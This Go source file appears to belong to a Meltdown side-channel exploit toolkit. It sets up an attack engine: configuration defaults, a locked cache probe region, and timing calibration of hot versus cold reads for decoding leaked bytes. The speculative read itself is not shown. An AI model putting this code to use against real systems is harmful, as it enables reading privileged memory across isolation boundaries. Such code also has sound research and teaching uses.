package meltdown

import (
	"errors"
	"fmt"
	"io"
	"log"

	"gitlab.com/stephen-fox/meltkit/hwkit"
)

// ErrNotCalibrated is returned when an attack is requested before
// the engine has a Calibration.
var ErrNotCalibrated = errors.New("engine has not been calibrated")

// Config configures an Engine. The zero value is valid and
// selects the defaults.
type Config struct {
	// Hardware provides the processor primitives. Defaults to
	// hwkit.Native.
	Hardware hwkit.Hardware

	// Barrier recovers from the fault raised by every
	// speculative read. Defaults to PanicOnFaultBarrier.
	Barrier FaultBarrier

	// LineShift is log2 of the probe line size. Defaults to
	// DefaultLineShift.
	LineShift uint

	// CalibrationRounds is the number of samples taken per
	// calibration phase. Defaults to DefaultCalibrationRounds.
	CalibrationRounds int

	// Threshold selects how the threshold is derived from the
	// calibration averages.
	Threshold ThresholdPolicy

	// Policy selects how rounds are decoded into a byte.
	Policy DecodePolicy

	// Verbose, when non-nil, receives diagnostic messages such as
	// calibration results and warnings.
	Verbose *log.Logger

	// Debug, when non-nil, receives one message per decoded byte.
	Debug *log.Logger
}

func (o *Config) setDefaults() error {
	if o.Hardware == nil {
		hw, err := hwkit.Native()
		if err != nil {
			return err
		}
		o.Hardware = hw
	}

	if o.Barrier == nil {
		o.Barrier = PanicOnFaultBarrier{}
	}

	if o.LineShift == 0 {
		o.LineShift = DefaultLineShift
	}

	if o.CalibrationRounds == 0 {
		o.CalibrationRounds = DefaultCalibrationRounds
	}

	if o.Verbose == nil {
		o.Verbose = log.New(io.Discard, "", 0)
	}

	if o.Debug == nil {
		o.Debug = log.New(io.Discard, "", 0)
	}

	return nil
}

func (o Config) validate() error {
	if o.LineShift < MinLineShift || o.LineShift > MaxLineShift {
		return fmt.Errorf("line shift must be between %d and %d - it is %d",
			MinLineShift, MaxLineShift, o.LineShift)
	}

	if o.CalibrationRounds < 0 {
		return fmt.Errorf("calibration rounds cannot be negative")
	}

	switch o.Threshold {
	case MeanThreshold, GeometricThreshold:
	default:
		return fmt.Errorf("unsupported threshold policy: %s", o.Threshold)
	}

	switch o.Policy {
	case MajorityVote, CumulativeSum:
	default:
		return fmt.Errorf("unsupported decode policy: %s", o.Policy)
	}

	return nil
}

// Engine owns the probe region and calibration state for a series
// of attacks. An Engine must not be used by more than one goroutine
// at a time.
type Engine struct {
	config      Config
	probe       *ProbeRegion
	calibration Calibration
	calibrated  bool
}

// NewOrExit calls New. DefaultExitFn is invoked if an error occurs.
func NewOrExit(config Config) *Engine {
	e, err := New(config)
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to create meltdown engine - %w", err))
	}
	return e
}

// New creates an Engine and maps its probe region. Call Close
// to unmap it.
func New(config Config) (*Engine, error) {
	err := config.setDefaults()
	if err != nil {
		return nil, err
	}

	err = config.validate()
	if err != nil {
		return nil, err
	}

	probe, err := newProbeRegion(config.LineShift)
	if err != nil {
		return nil, err
	}

	err = probe.Lock()
	if err != nil {
		config.Verbose.Printf("warning: failed to lock probe region into memory - %s", err)
	}

	config.Verbose.Printf("probe region: 0x%x (%d lines of %d bytes, guard at 0x%x)",
		probe.Base(), NumLines, probe.LineSize(), probe.Guard())

	return &Engine{
		config: config,
		probe:  probe,
	}, nil
}

// Probe returns the engine's probe region.
func (o *Engine) Probe() *ProbeRegion {
	return o.probe
}

// Hardware returns the hardware primitives used by the engine.
func (o *Engine) Hardware() hwkit.Hardware {
	return o.config.Hardware
}

// CalibrateOrExit calls Calibrate. DefaultExitFn is invoked
// if an error occurs.
func (o *Engine) CalibrateOrExit() Calibration {
	c, err := o.Calibrate()
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to calibrate timer - %w", err))
	}
	return c
}

// Calibrate measures hot and cold read latency of the first probe
// line and stores the resulting threshold for subsequent attacks.
//
// A low margin between the averages is not an error. It is
// reported to the Verbose logger and by Calibration.LowMargin.
func (o *Engine) Calibrate() (Calibration, error) {
	o.config.Verbose.Printf("calibrating with %d rounds per phase...",
		o.config.CalibrationRounds)

	result, err := calibrate(
		o.config.Hardware,
		o.probe.Line(0),
		o.config.CalibrationRounds,
		o.config.Threshold)
	if err != nil {
		return result, err
	}

	o.config.Verbose.Printf("average cold read: %d", result.AvgCold)
	o.config.Verbose.Printf("average hot read: %d", result.AvgHot)
	o.config.Verbose.Printf("threshold (%s): %d", o.config.Threshold, result.Threshold)

	if result.LowMargin() {
		o.config.Verbose.Printf("warning: hot/cold margin of %d is below 10%% of the threshold, results will be unreliable",
			result.Margin())
	}

	o.calibration = result
	o.calibrated = true

	return result, nil
}

// UseCalibration makes the engine use a previously measured
// Calibration instead of running Calibrate.
func (o *Engine) UseCalibration(c Calibration) error {
	err := c.Validate()
	if err != nil {
		return err
	}

	o.calibration = c
	o.calibrated = true

	return nil
}

// Calibration returns the current calibration, and false if the
// engine has not been calibrated.
func (o *Engine) Calibration() (Calibration, bool) {
	return o.calibration, o.calibrated
}

// Close unmaps the probe region.
func (o *Engine) Close() error {
	return o.probe.Close()
}
